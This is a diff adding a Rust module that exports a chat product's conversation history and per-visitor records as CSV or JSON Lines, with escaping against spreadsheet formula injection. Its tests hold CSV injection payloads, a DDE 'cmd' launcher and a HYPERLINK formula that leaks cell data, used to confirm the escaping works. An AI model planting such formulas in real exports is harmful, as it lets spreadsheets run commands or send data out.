@@ -1,0 +1,236 @@
+//! What is taken out, line by line: a table for spreadsheets, or JSON.
+
+use engine::{
+    browser::Device,
+    store::{ExportItem, PastChat, VisitorFacts},
+};
+use protocol::{
+    agent::Directory,
+    chat::{Author, Body, Entry},
+    language::Language,
+};
+use serde_json::{Value, json};
+
+use super::{
+    history::{agent_name, concierge_name, entry_words, outcome, rating_words, visitor_name},
+    i18n,
+};
+
+/// How it is written.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Format {
+    /// Comma-separated, by RFC 4180; a row for each entry of a chat.
+    Csv,
+    /// A JSON object a line: a chat, then each entry of it; the last line says how many they were.
+    JsonLines,
+}
+
+/// Writes lines; knows the chat that they are of.
+#[derive(Debug)]
+pub struct Lines {
+    directory: Directory,
+    format: Format,
+    chat: Option<PastChat>,
+    counted: (u64, u64),
+}
+
+const HEADS: [&str; 12] = [
+    "chat",
+    "began_at",
+    "ended_at",
+    "outcome",
+    "rating",
+    "concierge",
+    "visitor",
+    "email",
+    "seq",
+    "at",
+    "author",
+    "text",
+];
+
+impl Lines {
+    /// Lines in a format, with the names of an organization.
+    pub fn new(directory: Directory, format: Format) -> Self {
+        Self { directory, format, chat: None, counted: (0, 0) }
+    }
+
+    /// What stands before the first piece.
+    pub fn head(&self) -> String {
+        match self.format {
+            // By this a spreadsheet knows the letters.
+            Format::Csv => format!("\u{feff}{}", row(&HEADS.map(str::to_owned))),
+            Format::JsonLines => String::new(),
+        }
+    }
+
+    /// The lines of one piece. They are in English, whoever takes them out: so they can be compared.
+    pub fn piece(&mut self, piece: ExportItem) -> String {
+        i18n::in_language(Language::En, || self.lines(piece))
+    }
+
+    fn lines(&mut self, piece: ExportItem) -> String {
+        match piece {
+            ExportItem::Chat(chat) => {
+                self.counted.0 += 1;
+                let line = match self.format {
+                    Format::Csv => String::new(),
+                    Format::JsonLines => format!("{}\n", json!({ "chat": self.chat_json(&chat) })),
+                };
+                self.chat = Some(*chat);
+                line
+            }
+            ExportItem::End => self.end(),
+            ExportItem::Entry(entry) => {
+                self.counted.1 += 1;
+                match (self.format, &self.chat) {
+                    (Format::Csv, Some(chat)) => self.csv(chat, &entry),
+                    _ => format!("{}\n", json!({ "entry": self.entry_json(&entry) })),
+                }
+            }
+        }
+    }
+
+    /// What stands behind the last piece: by it one knows that it is all.
+    pub fn end(&self) -> String {
+        match self.format {
+            Format::Csv => String::new(),
+            Format::JsonLines => {
+                format!("{}\n", json!({ "end": { "chats": self.counted.0, "entries": self.counted.1 } }))
+            }
+        }
+    }
+
+    fn csv(&self, chat: &PastChat, entry: &Entry) -> String {
+        row(&[
+            chat.id.to_string(),
+            chat.began_at.to_string(),
+            chat.ended_at.map(|at| at.to_string()).unwrap_or_default(),
+            outcome(chat).to_owned(),
+            chat.rating.map(rating_words).unwrap_or_default().to_owned(),
+            concierge_name(&self.directory, chat).to_owned(),
+            visitor_name(chat).to_owned(),
+            chat.visitor_email.clone().unwrap_or_default(),
+            entry.seq.to_string(),
+            entry.at.to_string(),
+            self.author(entry),
+            entry_words(&self.directory, entry),
+        ])
+    }
+
+    fn chat_json(&self, chat: &PastChat) -> Value {
+        json!({
+            "id": chat.id.to_string(), "began_at": chat.began_at, "ended_at": chat.ended_at, "outcome": outcome(chat),
+            "rating": chat.rating.map(rating_words),
+            "concierge": concierge_name(&self.directory, chat), "agent": chat.agent.map(|by| agent_name(&self.directory, by)),
+            "visitor": { "id": chat.visitor.to_string(), "name": chat.visitor_name, "email": chat.visitor_email },
+        })
+    }
+
+    fn entry_json(&self, entry: &Entry) -> Value {
+        let is_message = matches!(entry.body, Body::Text(_) | Body::Edited { .. } | Body::File(_));
+        let mut said = json!({
+            "chat": self.chat.as_ref().map(|chat| chat.id.to_string()), "seq": entry.seq, "at": entry.at,
+            "author": self.author(entry), "is_message": is_message, "text": entry_words(&self.directory, entry),
+        });
+        if let Body::File(card) = &entry.body {
+            let address = card.id().map(|id| format!("/files/{id}"));
+            said["file"] =
+                json!({ "name": card.name(), "kind": card.kind(), "bytes": card.bytes(), "address": address });
+        }
+        said
+    }
+
+    fn author(&self, entry: &Entry) -> String {
+        match entry.author {
+            Author::Visitor => "visitor".to_owned(),
+            Author::Agent(agent) => agent_name(&self.directory, agent),
+            Author::Concierge => String::new(),
+        }
+    }
+}
+
+/// A row, with its line end.
+fn row(cells: &[String]) -> String {
+    format!("{}\r\n", cells.iter().map(|text| cell(text)).collect::<Vec<_>>().join(","))
+}
+
+/// A cell that no spreadsheet takes for a formula. One that begins with a sign that could begin one, or with `'`, has a `'`
+/// before it; whoever reads it back takes one `'` away.
+fn cell(text: &str) -> String {
+    const BEGINS_A_FORMULA: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\'', '＝', '＋', '－', '＠'];
+    let text = text.replace('\0', "");
+    let text = if text.starts_with(BEGINS_A_FORMULA) { format!("'{text}") } else { text };
+    let is_plain = text.chars().all(|letter| !matches!(letter, '"' | ',' | ';' | '\r' | '\n' | '\t'));
+    if is_plain && text.trim() == text { text } else { format!("\"{}\"", text.replace('"', "\"\"")) }
+}
+
+/// Everything that is known of one visitor but his chats, which follow as lines. In English as well.
+pub fn known(facts: &VisitorFacts, directory: &Directory) -> Value {
+    i18n::in_language(Language::En, || everything(facts, directory))
+}
+
+fn everything(facts: &VisitorFacts, directory: &Directory) -> Value {
+    let visitor = &facts.visitor;
+    json!({
+        "visitor": {
+            "id": visitor.id.to_string(), "name": visitor.name, "email": visitor.email,
+            "filled_in_by_an_agent": visitor.by_agent, "first_at": visitor.first_at, "seen_at": visitor.seen_at,
+        },
+        "visits": facts.visits.iter().map(|visit| json!({
+            "id": visit.id.to_string(), "started_at": visit.started_at, "browser": visit.browser,
+            "referrer": visit.source.referrer, "campaign": visit.source.campaign, "language": visit.source.language,
+            "time_zone": visit.source.time_zone, "device": visit.source.device.map(Device::as_str),
+            "pages": visit.page_views.iter().map(|view| json!({
+                "at": view.at, "url": view.page.url, "title": view.page.title,
+            })).collect::<Vec<_>>(),
+        })).collect::<Vec<_>>(),
+        "invitations": facts.invitations.iter().map(|invitation| json!({
+            "by": agent_name(directory, invitation.by), "sent_at": invitation.sent_at, "text": invitation.text,
+            "state": invitation.state.as_str(),
+        })).collect::<Vec<_>>(),
+        "notes": facts.notes.iter().map(|note| json!({
+            "by": agent_name(directory, note.by), "at": note.at, "text": note.text,
+        })).collect::<Vec<_>>(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        for text in
+            ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"//x?\"&A1)"]
+        {
+            let cell = cell(text);
+            assert!(cell.starts_with('\'') || cell.starts_with("\"'"), "{cell}");
+        }
+        assert_eq!(cell("a=1"), "a=1");
+    }
+
+    /// As a program reads it that knows RFC 4180 and the sign.
+    fn read_back(row: &str) -> Vec<String> {
+        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
+        let mut letters = row.strip_suffix("\r\n").unwrap().chars().peekable();
+        while let Some(letter) = letters.next() {
+            match letter {
+                '"' if quoted && letters.peek() == Some(&'"') => cell.push(letters.next().unwrap()),
+                '"' => quoted = !quoted,
+                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
+                _ => cell.push(letter),
+            }
+        }
+        cells.push(cell);
+        cells.into_iter().map(|cell| cell.strip_prefix('\'').map_or(cell.clone(), str::to_owned)).collect()
+    }
+
+    #[test]
+    fn what_is_written_reads_back_equal() {
+        let texts =
+            ["plain", "a \"word\"", "one;two,three", "two\r\nlines", "🧗‍♀️", "=1", "'quoted'", "", " space ", "-"];
+        let cells: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
+        assert_eq!(read_back(&row(&cells)), cells);
+    }
+}
